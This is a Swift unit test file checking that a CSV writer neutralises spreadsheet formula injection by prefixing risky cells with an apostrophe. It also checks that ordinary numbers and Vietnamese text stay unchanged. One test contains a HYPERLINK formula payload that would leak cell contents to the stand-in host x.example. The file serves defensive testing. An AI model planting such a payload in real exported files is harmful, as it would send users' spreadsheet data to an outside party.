import Testing

@testable import DieuHanhCore

@Suite struct CSVFormulaTests {
    @Test func cellsThatASpreadsheetWouldRunAreMadeText() {
        // act, check: each character a spreadsheet starts a formula with
        #expect(CSVWriter.field("=1+1") == "'=1+1")
        #expect(CSVWriter.field("+84912345678") == "'+84912345678")
        #expect(CSVWriter.field("-2+3") == "'-2+3")
        #expect(CSVWriter.field("@SUM(A1)") == "'@SUM(A1)")
        #expect(CSVWriter.field("\t=1") == "'\t=1")
        #expect(CSVWriter.field("\r=1") == "\"'\r=1\"")
    }

    @Test func theLeakingHyperlinkIsWrittenAsQuotedText() {
        // setup
        let name = "=HYPERLINK(\"http://x.example/?leak=\"&A1,\"x\")"
        // act
        let cell = CSVWriter.field(name)
        // check: quoted (it holds quotes and a comma) and starting with the apostrophe inside the quotes
        #expect(cell == "\"'=HYPERLINK(\"\"http://x.example/?leak=\"\"&A1,\"\"x\"\")\"")
        let back = try? CSVParser.parse("a\n" + cell + "\n")
        #expect(back?.rows.first?.fields == ["'" + name])
    }

    @Test func plainNumbersAndOrdinaryTextStayAsTheyAre() {
        #expect(CSVWriter.field("-12") == "-12")
        #expect(CSVWriter.field("-3,5") == "\"-3,5\"")
        #expect(CSVWriter.field("-1.250.000") == "-1.250.000")
        #expect(CSVWriter.field("Sở Y tế - Ban chỉ đạo") == "Sở Y tế - Ban chỉ đạo")
        #expect(CSVWriter.field("01/NQ-CP") == "01/NQ-CP")
        #expect(CSVWriter.field("") == "")
    }

    @Test func aLoneSignOrASignBeforeTextIsMadeInert() {
        #expect(CSVWriter.field("-") == "'-")
        #expect(CSVWriter.field("-.5") == "'-.5")
        #expect(CSVWriter.field("-5.") == "'-5.")
        #expect(CSVWriter.field("- nội dung") == "'- nội dung")
    }
}
